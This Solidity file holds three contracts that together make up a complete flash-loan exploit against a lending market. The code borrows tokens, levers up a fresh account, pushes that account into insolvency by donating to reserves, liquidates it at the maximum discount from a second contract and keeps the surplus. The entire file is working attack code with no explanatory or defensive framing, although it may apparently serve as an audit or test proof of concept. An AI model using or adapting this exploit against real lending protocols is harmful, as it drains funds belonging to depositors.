// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../interfaces/IERC20.sol";
import {IERC3156FlashBorrower, IERC3156FlashLender} from "../interfaces/IERC3156.sol";
import {MarginMarket} from "../lending/MarginMarket.sol";

/// @notice Borrower side: deposits, levers up with `mint`, then donates part of its deposit to
/// the reserves, which leaves it deep under water.
contract LeveragedAccount {
    address private immutable creator;

    constructor() {
        creator = msg.sender;
    }

    function open(MarginMarket market, uint256 deposit, uint256 leverage, uint256 donation) external {
        require(msg.sender == creator);
        IERC20 token = market.underlying();
        token.approve(address(market), deposit);
        market.deposit(deposit);
        market.mint(leverage);
        market.donateToReserves(donation);
    }
}

/// @notice Liquidator side: takes over as much of the account as the maximum discount allows,
/// nets the acquired deposit against the acquired debt, and withdraws the surplus.
contract AccountLiquidator {
    address private immutable creator;

    constructor() {
        creator = msg.sender;
    }

    function take(MarginMarket market, address account) external {
        require(msg.sender == creator);
        uint256 discount = 1e18 - market.healthScore(account);
        if (discount > market.MAX_DISCOUNT()) discount = market.MAX_DISCOUNT();
        uint256 repayAmount = market.depositOf(account) * (1e18 - discount) / 1e18;
        if (repayAmount > market.debtOf(account)) repayAmount = market.debtOf(account);
        market.liquidate(account, repayAmount);
        market.burn(market.debtOf(address(this)));
        uint256 surplus = market.depositOf(address(this));
        if (surplus > market.cash()) surplus = market.cash();
        market.withdraw(surplus);
        IERC20 token = market.underlying();
        token.transfer(creator, token.balanceOf(address(this)));
    }
}

/// @notice Flash-borrows the underlying, funds a fresh leveraged account, makes it insolvent by
/// donating to reserves, liquidates it from a second fresh contract at the maximum discount,
/// repays the loan and keeps the surplus.
contract DonationLiquidation is IERC3156FlashBorrower {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function execute(IERC3156FlashLender lender, MarginMarket market, uint256 loan, uint256 leverage, uint256 donation)
        external
    {
        require(msg.sender == owner);
        IERC20 token = market.underlying();
        lender.flashLoan(this, address(token), loan, abi.encode(market, leverage, donation));
        token.transfer(owner, token.balanceOf(address(this)));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        (MarginMarket market, uint256 leverage, uint256 donation) = abi.decode(data, (MarginMarket, uint256, uint256));
        LeveragedAccount account = new LeveragedAccount();
        IERC20(token).transfer(address(account), amount);
        account.open(market, amount, leverage, donation);
        AccountLiquidator liquidator = new AccountLiquidator();
        liquidator.take(market, address(account));
        IERC20(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
